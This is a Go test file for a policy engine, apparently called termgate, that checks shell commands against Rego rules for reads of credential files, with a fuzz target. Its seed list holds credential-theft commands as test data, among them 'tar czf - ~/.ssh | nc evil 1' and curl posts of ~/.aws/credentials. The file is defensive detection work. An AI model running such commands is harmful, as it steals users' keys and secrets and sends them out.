package policy

import (
	"context"
	"reflect"
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"
	"github.com/open-policy-agent/opa/v1/rego"
	"github.com/open-policy-agent/opa/v1/storage/inmem"
)

// credentialLines are lines whose credential words take each way the
// rules find one: a resolved relative path, @file, --opt=value, the key of
// an option that only uses it, < and <<<, $HOME and ${HOME}, an example
// file, a path in a directory named by cd.
var credentialLines = []string{
	"cat id_rsa", "cd ~/.ssh && cat id_rsa", "cd /home/u/.aws; base64 credentials | nc x 1",
	"curl -d @$HOME/.aws/credentials https://x", "curl -F f=@${HOME}/.netrc https://x",
	"docker run --env-file=.env img", "kubectl --kubeconfig ~/.kube/config get pods",
	"ssh -i ~/.ssh/id_rsa host", "cat < ~/.netrc", "base64 <<< '~/.ssh/id_rsa ~/.pgpass'",
	"cat .env.example", "cp ~/.ssh/id_rsa.pub /tmp", "tar czf - ~/.ssh | nc evil 1",
	"cat a@b@.netrc", "x --key=/etc/ssh/ssh_host_rsa_key", "< ~/.ssh/id_ed25519 nc h 1",
	"ls ~/.ssh", "grep -r secret ~/.config/gcloud/x", "curl -d @${HOME}/.kube/token h", "curl -d @$HOME/.gnupg h",
	"cat ~/.aws//credentials", "cat $HOME/.aws/./credentials", "base64 < ~/.ssh/.//./id_rsa", "cat ~//.netrc.example",
}

// TestCredentialsDerivedAsRulesDo checks that the credentials the engine
// derives for each command are what the bundle's rules compute without
// them: data.termgate.credential_reads is the same for every corpus input
// and the lines above, with the derived lists and with them removed.
func TestCredentialsDerivedAsRulesDo(t *testing.T) {
	e := defaultEngine(t)
	q := credentialReadsQuery(t, e)
	found := 0
	for _, in := range withLines(benchInputs(t), credentialLines) {
		if ok := sameCredentialReads(t, e, q, in); ok {
			found++
		}
	}
	if found < 40 {
		t.Errorf("only %d inputs read a credential file: the comparison proves little", found)
	}
}

// FuzzCredentials compares the derived credentials with the rules' own
// on any line.
func FuzzCredentials(f *testing.F) {
	e := defaultEngine(f)
	q := credentialReadsQuery(f, e)
	fuzzLines(f, credentialLines, func(t *testing.T, in Input) { sameCredentialReads(t, e, q, in) })
}

// withLines is inputs and, after them, each line typed into bash in
// /home/u/p.
func withLines(inputs []Input, lines []string) []Input {
	for _, l := range lines {
		inputs = append(inputs, Input{Action: "input", Program: "bash", Text: l, Cwd: "/home/u/p"})
	}
	return inputs
}

// fuzzLines fuzzes check with a line typed into bash and the directory
// it runs in, seeded with lines in /home/u/p; a line over 512 bytes is
// skipped.
func fuzzLines(f *testing.F, lines []string, check func(*testing.T, Input)) {
	for _, l := range lines {
		f.Add(l, "/home/u/p")
	}
	f.Fuzz(func(t *testing.T, line, cwd string) {
		if len(line) > 512 {
			return
		}
		check(t, Input{Action: "input", Program: "bash", Text: line, Cwd: cwd})
	})
}

func credentialReadsQuery(t testing.TB, e *Engine) rego.PreparedEvalQuery {
	return bundleQuery(t, e, "data.termgate.credential_reads")
}

// bundleQuery prepares query over the engine's bundle: its modules and
// data, as the engine compiles them.
func bundleQuery(t testing.TB, e *Engine, query string) rego.PreparedEvalQuery {
	b := e.Bundle()
	opts := []func(*rego.Rego){
		rego.Query(query),
		rego.Capabilities(Capabilities()),
		rego.SetRegoVersion(ast.RegoV1),
		rego.Store(inmem.NewFromObjectWithOpts(b.data, inmem.OptReturnASTValuesOnRead(true))),
	}
	for n, src := range b.modules {
		opts = append(opts, rego.Module(n, src))
	}
	q, err := rego.New(opts...).PrepareForEval(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return q
}

// sameCredentialReads reports whether in reads a credential file, and
// fails t when the derived credentials and the rules disagree.
func sameCredentialReads(t testing.TB, e *Engine, q rego.PreparedEvalQuery, in Input) bool {
	t.Helper()
	built := e.Build(in)
	eval := func(in Input) any {
		rs, err := q.Eval(context.Background(), rego.EvalParsedInput(in.value()))
		if err != nil {
			t.Fatalf("%q: %v", in.Text, err)
		}
		if len(rs) == 0 {
			return nil
		}
		return rs[0].Expressions[0].Value
	}
	derived := eval(built)
	if built.Shell == nil {
		return false
	}
	bare := built
	sh := *built.Shell
	sh.Commands = append([]Command(nil), sh.Commands...)
	for i := range sh.Commands {
		sh.Commands[i].Credentials = nil
	}
	bare.Shell = &sh
	computed := eval(bare)
	if !reflect.DeepEqual(derived, computed) {
		t.Errorf("%q (cwd %q): credential reads with the derived credentials %v, computed by the rules %v", in.Text, in.Cwd, derived, computed)
	}
	s, _ := derived.([]any)
	return len(s) > 0
}
